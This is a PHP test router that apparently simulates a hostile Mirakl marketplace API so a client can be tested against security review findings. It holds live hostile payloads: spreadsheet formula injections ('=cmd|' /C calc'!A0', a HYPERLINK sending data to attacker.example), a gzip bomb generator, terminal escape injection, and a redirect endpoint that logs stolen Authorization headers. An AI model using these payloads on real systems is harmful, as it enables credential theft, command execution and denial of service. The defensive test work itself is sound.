<?php
/**
 * A hostile Mirakl server: a `php -S` router in front of the sandbox (tests/sandbox) that
 * forwards every call and spoils the answer the way its mode says. The mode and the order to
 * spoil are read from the JSON file named by HOSTILE_CONFIG on every request:
 * {"upstream": "http://127.0.0.1:N", "mode": "...", "order_id": "..."}.
 *
 * Modes (each one finding of the security review): amount_overflow (OR11 prices 1e25),
 * tl02_overflow (TL02 amounts 1e25), far_date (created_date in year 262142), retry_after (429
 * with Retry-After 99999999999999999999 on OR11), deep_nesting (one order nested 200 levels),
 * gzip_bomb (OR11 as 1 MB of gzip inflating to 1 GB), huge_content_length (Content-Length of
 * 10^15 on OR11), drip_feed (OR11 one byte every 200 ms), nul_escape (NUL and ANSI escapes in
 * the order's strings and in an error message), negative_quantity, many_lines (100,000 lines),
 * csv_formula (spreadsheet formulas in the order's commercial id and its TL02 rows' strings),
 * key_redirect (OR11 answered with a redirect to another address of this server, which records
 * in stolen.log, beside the config file, any request that reaches it).
 * Orders other than `order_id` are passed through untouched, so a well-formed order always
 * shares the page with the spoiled one.
 */

declare(strict_types=1);

$config = json_decode((string) file_get_contents((string) getenv('HOSTILE_CONFIG')), true);
$mode = (string) ($config['mode'] ?? 'none');
$bad = (string) ($config['order_id'] ?? '');
$method = $_SERVER['REQUEST_METHOD'];
$uri = $_SERVER['REQUEST_URI'];
$path = (string) parse_url($uri, PHP_URL_PATH);
$is_or11 = $method === 'GET' && $path === '/api/orders';
$is_tl02 = $method === 'GET' && $path === '/api/sellerpayment/transactions_logs';

if ($path === '/stolen') {
    $headers = array_change_key_case(getallheaders());
    file_put_contents(dirname((string) getenv('HOSTILE_CONFIG')) . '/stolen.log', json_encode([
        'uri' => $uri,
        'authorization' => $headers['authorization'] ?? null,
    ]) . "\n", FILE_APPEND);
    http_response_code(200);
    header('Content-Type: application/json');
    echo '{"orders":[],"total_count":0}';
    return true;
}
if ($is_or11 && $mode === 'key_redirect') {
    // Another host, as far as the client can tell (the same server under another name).
    http_response_code(302);
    header('Location: http://localhost:' . $_SERVER['SERVER_PORT'] . '/stolen');
    return true;
}
if ($is_or11 && $mode === 'retry_after') {
    http_response_code(429);
    header('Retry-After: 99999999999999999999');
    header('Content-Type: application/json');
    echo '{"status":429,"message":"slow down"}';
    return true;
}
if ($is_or11 && $mode === 'gzip_bomb') {
    $file = sys_get_temp_dir() . '/mirakl-hostile-gzip-bomb-1g.gz';
    if (!is_file($file)) {
        $deflate = deflate_init(ZLIB_ENCODING_GZIP, ['level' => 9]);
        $out = fopen("$file.part", 'wb');
        $zeros = str_repeat('0', 1 << 20);
        fwrite($out, deflate_add($deflate, '{"orders":[], "total_count": 0, "padding": "', ZLIB_NO_FLUSH));
        for ($i = 0; $i < 1024; $i++) {
            fwrite($out, deflate_add($deflate, $zeros, ZLIB_NO_FLUSH));
        }
        fwrite($out, deflate_add($deflate, '"}', ZLIB_FINISH));
        fclose($out);
        rename("$file.part", $file);
    }
    header('Content-Type: application/json');
    header('Content-Encoding: gzip');
    header('Content-Length: ' . filesize($file));
    readfile($file);
    return true;
}
if ($is_or11 && $mode === 'huge_content_length') {
    header('Content-Type: application/json');
    header('Content-Length: 1000000000000000');
    echo '{"orders":[';
    flush();
    return true;
}

// Forward to the sandbox.
$headers = [];
foreach (getallheaders() as $name => $value) {
    if (!in_array(strtolower((string) $name), ['host', 'content-length', 'accept-encoding', 'connection'], true)) {
        $headers[] = "$name: $value";
    }
}
$context = stream_context_create(['http' => [
    'method' => $method,
    'header' => implode("\r\n", $headers),
    'content' => (string) file_get_contents('php://input'),
    'ignore_errors' => true,
    'follow_location' => 0,
    'timeout' => 60,
]]);
$body = (string) @file_get_contents($config['upstream'] . $uri, false, $context);
$status = 502;
$type = 'application/json';
foreach ($http_response_header ?? [] as $line) {
    if (preg_match('#^HTTP/\S+ (\d{3})#', $line, $m)) {
        $status = (int) $m[1];
    } elseif (stripos($line, 'content-type:') === 0) {
        $type = trim(substr($line, 13));
    }
}

if ($is_or11 && $status === 200) {
    $page = json_decode($body, true);
    foreach ($page['orders'] ?? [] as $i => $order) {
        if (($order['order_id'] ?? null) === $bad) {
            $page['orders'][$i] = spoil_order($order, $mode);
        }
    }
    $body = json_encode($page, JSON_UNESCAPED_SLASHES | JSON_PRESERVE_ZERO_FRACTION);
    if ($mode === 'amount_overflow') {
        $body = str_replace('"__1e25__"', '1e25', $body);
    }
    if ($mode === 'deep_nesting') {
        $body = str_replace('"__deep__"', str_repeat('[', 200) . str_repeat(']', 200), $body);
    }
}
if ($is_tl02 && $status === 200 && $mode === 'tl02_overflow') {
    // Each row's amount, a JSON number or a numeric string, becomes 1e25.
    $body = (string) preg_replace('/"amount"\s*:\s*("?)-?[0-9.eE+-]+\1/', '"amount":1e25', $body);
}
if ($is_tl02 && $status === 200 && $mode === 'csv_formula') {
    // The spoiled order's rows carry formulas in the strings a finance export shows.
    $page = json_decode($body, true);
    foreach ($page['data'] ?? [] as $i => $row) {
        if (($row['entities']['order']['id'] ?? null) !== $bad) {
            continue;
        }
        $page['data'][$i]['entities']['order']['id'] = "=cmd|' /C calc'!A0";
        $page['data'][$i]['entities']['order']['commercial_id'] = '=HYPERLINK("http://attacker.example/"&A1,"x")';
        $page['data'][$i]['accounting_document_number'] = '+SUM(1,1)';
        $page['data'][$i]['seller_billing_cycle_id'] = "-2+3\tcmd";
    }
    $body = (string) json_encode($page, JSON_UNESCAPED_SLASHES | JSON_PRESERVE_ZERO_FRACTION);
}
if ($mode === 'nul_escape' && $status >= 400) {
    $body = (string) json_encode(['status' => $status, 'message' => "refused\u{0000}\u{001b}[2J\u{001b}]0;owned\u{0007}"]);
}

http_response_code($status);
header("Content-Type: $type");
if ($is_or11 && $mode === 'drip_feed') {
    header('Content-Length: ' . strlen($body));
    foreach (str_split($body, 1) as $byte) {
        echo $byte;
        flush();
        usleep(200000);
    }
    return true;
}
echo $body;
return true;

/** The order spoiled the way $mode says. */
function spoil_order(array $order, string $mode): array
{
    switch ($mode) {
        case 'amount_overflow':
            $order['price'] = '__1e25__';
            $order['total_price'] = '__1e25__';
            foreach ($order['order_lines'] as $j => $line) {
                $order['order_lines'][$j]['price'] = '__1e25__';
                $order['order_lines'][$j]['price_unit'] = '__1e25__';
                $order['order_lines'][$j]['total_price'] = '__1e25__';
            }
            break;
        case 'far_date':
            $order['created_date'] = '+262142-01-01T00:00:00Z';
            break;
        case 'deep_nesting':
            $order['order_additional_fields'] = [['code' => 'deep', 'type' => 'STRING', 'value' => '__deep__']];
            break;
        case 'nul_escape':
            $order['customer']['firstname'] = "Eve\u{0000}\u{001b}[2J\u{001b}]0;owned\u{0007}";
            $order['customer']['lastname'] = "\u{001b}[31mRed\u{001b}[0m";
            break;
        case 'negative_quantity':
            foreach ($order['order_lines'] as $j => $line) {
                $order['order_lines'][$j]['quantity'] = -5;
            }
            break;
        case 'csv_formula':
            $order['commercial_id'] = '@SUM(1+1)*cmd|\' /C calc\'!A0';
            break;
        case 'many_lines':
            $line = $order['order_lines'][0];
            $lines = [];
            for ($k = 0; $k < 100000; $k++) {
                $line['order_line_id'] = $order['order_id'] . '-' . ($k + 1);
                $lines[] = $line;
            }
            $order['order_lines'] = $lines;
            break;
    }
    return $order;
}
